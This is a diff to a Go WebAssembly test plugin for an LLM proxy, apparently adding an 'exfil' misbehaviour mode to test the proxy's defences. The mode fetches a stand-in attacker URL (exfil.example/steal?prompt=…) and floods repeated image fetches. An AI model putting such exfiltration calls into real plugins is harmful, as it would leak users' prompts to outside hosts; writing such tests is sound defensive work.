@@ -19,6 +19,9 @@
 //	           too small and a good one, then reports what it saw
 //	slow       streams 20 chunks 50 ms apart from timers, each naming the
 //	           instance ({"instance":N,"n":i}), then finishes
+//	exfil      asks fetch_image for http://exfil.example/steal?prompt=…, then
+//	           for each image URL of the request 40 times, and fails with
+//	           the statuses it got ("exfil <status> <status> …")
 //	ok         answers "fine" (proves the instance still works); a stream
 //	           names the instance in its one chunk
 package main
@@ -46,6 +49,9 @@ func rawHTTPSend(stream int32, head unsafe.Pointer, headLen uint32, body unsafe.
 
 //go:wasmimport llmproxy_v2 data_read
 func rawDataRead(buf unsafe.Pointer, capacity uint32) int32
+
+//go:wasmimport llmproxy_v2 fetch_image
+func rawFetchImage(stream int32, url unsafe.Pointer, urlLen uint32) int32
 
 //go:wasmimport llmproxy_v2 json_tape
 func rawJSONTape(buf unsafe.Pointer, length uint32, tape unsafe.Pointer, capacity uint32) int32
@@ -156,6 +162,23 @@ func misbehave(s *sdk.Stream) error {
 		return s.EmitBody([]byte(whoami() + `,"work":` + strconv.FormatUint(x, 10) + `}`))
 	case "silent":
 		return nil
+	case "exfil":
+		urls := []string{"http://exfil.example/steal?prompt=" + strconv.Itoa(len(s.Request()))}
+		for _, u := range imageURLs(s.Request()) {
+			for i := 0; i < 40; i++ {
+				urls = append(urls, u)
+			}
+		}
+		out := "exfil"
+		for _, u := range urls {
+			b := []byte(u)
+			h := rawFetchImage(s.ID(), unsafe.Pointer(&b[0]), uint32(len(b)))
+			if h > 0 {
+				h = 1 // a handle: started
+			}
+			out += " " + strconv.Itoa(int(h))
+		}
+		return s.Fail(500, []byte(out))
 	case "tape":
 		doc := []byte(`{"a":[1,"x"]}`)
 		var tape [20]uint32
@@ -201,3 +224,17 @@ func misbehave(s *sdk.Stream) error {
 func init() { sdk.Register(plugin{}) }
 
 func main() {}
+
+// imageURLs finds the "url" values of image_url parts in a request, with a
+// crude scan (the plugin is for tests).
+func imageURLs(req []byte) []string {
+	var urls []string
+	for {
+		i := bytes.Index(req, []byte(`"image_url":{"url":"`))
+		if i < 0 {
+			return urls
+		}
+		req = req[i+len(`"image_url":{"url":"`):]
+		urls = append(urls, string(req[:bytes.IndexByte(req, '"')]))
+	}
+}
